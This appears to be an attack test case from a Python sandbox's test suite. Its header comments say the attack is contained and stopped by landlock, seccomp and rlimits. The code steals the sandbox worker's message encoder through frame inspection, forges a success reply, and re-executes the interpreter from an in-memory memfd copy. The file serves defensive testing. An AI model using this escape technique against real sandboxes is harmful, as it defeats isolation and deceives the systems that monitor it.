# attack: copies a program into memory with memfd_create and replaces itself by it
# full: contained
# reduced: contained
# stopped-by: landlock, seccomp, rlimits
import os
import stat
import struct
import sys


def is_socket(descriptor):
    try:
        return stat.S_ISSOCK(os.fstat(descriptor).st_mode)
    except OSError:
        return False


channel = next(descriptor for descriptor in range(3, 256) if is_socket(descriptor))
above = sys._getframe()
while "encode" not in above.f_globals:
    above = above.f_back
worker = above.f_globals


def frame(*message):
    data = worker["encode"](message)
    return struct.pack("<I", len(data)) + data


def returned(number, value):
    return frame(number, "returned", value, None, "", ())


def attack():
    memory = os.memfd_create("program", 0)
    with open(sys.executable, "rb") as program:
        while chunk := program.read(1 << 20):
            os.write(memory, chunk)
    os.set_inheritable(channel, True)
    answer = returned(1, "through: a program out of memory answers")
    os.execve(memory, [sys.executable, "-I", "-S", "-c", f"import os; os.write({channel}, {answer!r})"], {})
